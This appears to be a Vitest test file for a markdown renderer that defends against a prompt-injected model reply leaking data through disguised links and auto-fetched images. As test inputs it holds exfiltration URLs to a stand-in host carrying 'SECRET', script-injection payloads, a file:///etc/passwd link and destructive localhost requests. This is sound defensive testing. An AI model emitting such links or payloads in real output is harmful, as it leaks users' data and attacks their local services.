// @vitest-environment jsdom
// A steered model's reply holds links and images meant to carry data away (docs/security.md, "Data leaving the
// machine"). A link's text may pose as another address (`[https://docs.python.org/](https://evil.example/?d=…)`),
// so a link whose text is not its own address shows the host it really goes to; a link to this machine (a local
// service acting on a GET) or with a scheme other than http(s) is shown as text, not as a link; and an image is never
// fetched: its text and address are shown instead.
import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { MarkdownView } from './markdown-view';

afterEach(cleanup);

const hrefs = (container: HTMLElement) =>
  [...container.querySelectorAll('a')].map((a) => a.getAttribute('href'));

describe('links and images in a reply', () => {
  it('a link posing as another address shows the host it goes to', () => {
    const { container } = render(
      <MarkdownView text="Docs: [https://docs.python.org/3/](https://evil.example/?d=SECRET) and [the guide](https://evil.example/g)" />,
    );
    const links = [...container.querySelectorAll('a')];
    expect(links).toHaveLength(2);
    for (const link of links) expect(link.textContent).toContain('evil.example');
  });

  it('a link whose text is its own address is shown as it is', () => {
    const { container } = render(<MarkdownView text="See <https://github.com/owner/repo>." />);
    expect(container.querySelector('a')?.textContent).toBe('https://github.com/owner/repo');
  });

  it('links to this machine or with other schemes are not links', () => {
    const { container } = render(
      <MarkdownView
        text={[
          '[a](http://localhost:8080/admin?drop=1)',
          '[b](http://localhost./x)',
          '[c](http://app.localhost:3000/api/delete)',
          '[d](http://127.0.0.1:5984/_utils)',
          '[e](http://[::1]/)',
          '[f](http://[::ffff:127.0.0.1]/)',
          '[g](http://0.0.0.0:8000/)',
          '[h](javascript:alert(1))',
          '[i](data:text/html,<script>alert(1)</script>)',
          '[j](file:///etc/passwd)',
          '[k](mailto:x@evil.example?body=SECRET)',
          '[l](//evil.example/?d=SECRET)',
          '[m](/relative?d=SECRET)',
        ].join('\n\n')}
      />,
    );
    expect(hrefs(container)).toEqual([]);
    expect(container.textContent).toContain('a');
  });

  it('images are never fetched: no img element, their address shown as a link', () => {
    const { container } = render(
      <MarkdownView
        text={[
          '![logo](https://evil.example/p.png?d=SECRET)',
          '![ref][r]',
          '',
          '[r]: https://evil.example/r.png?d=SECRET',
        ].join('\n')}
      />,
    );
    expect(container.querySelectorAll('img')).toHaveLength(0);
    expect(container.querySelector('[src]')).toBeNull();
    expect(container.textContent).toContain('logo');
    expect(container.textContent).toContain('evil.example');
  });
});
